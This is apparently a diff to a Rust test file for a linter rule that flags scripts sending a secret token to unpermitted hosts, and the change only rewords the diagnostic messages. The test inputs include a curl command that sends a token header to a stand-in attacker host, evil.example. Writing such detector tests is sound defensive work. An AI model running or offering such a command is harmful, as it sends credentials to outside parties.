@@ -1,4 +1,4 @@
-//! The hosts that a secret is sent to, and those that its author does not permit.
+//! The hosts that a secret is sent to, and those that are not permitted.
 
 use super::super::check_file;
 use crate::Rule;
@@ -120,7 +120,7 @@ const NOTE: &str =
 /// Each refused host with the twin that is permitted.
 #[test]
 fn another_host_is_refused() {
-    let other = "`tok` is sent to evil.example by `curl`, which its author does not permit";
+    let other = "`tok` is sent by `curl` to evil.example, which is not among the permitted hosts";
     for (script, expected) in [
         (
             r#"curl -H "A: TOK" https://evil.example/x -o x"#,
@@ -132,8 +132,8 @@ fn another_host_is_refused() {
         (
             r#"frobctl --token "TOK""#,
             &[
-                "`tok` is sent to a host that is not known by `frobctl`, which its author does not \
-              permit",
+                "`tok` is sent by `frobctl` to a host that is not known, which is not among \
+                 the permitted hosts",
             ],
         ),
         (r#"sort /run/secrets/tok > /dev/null"#, &[]),
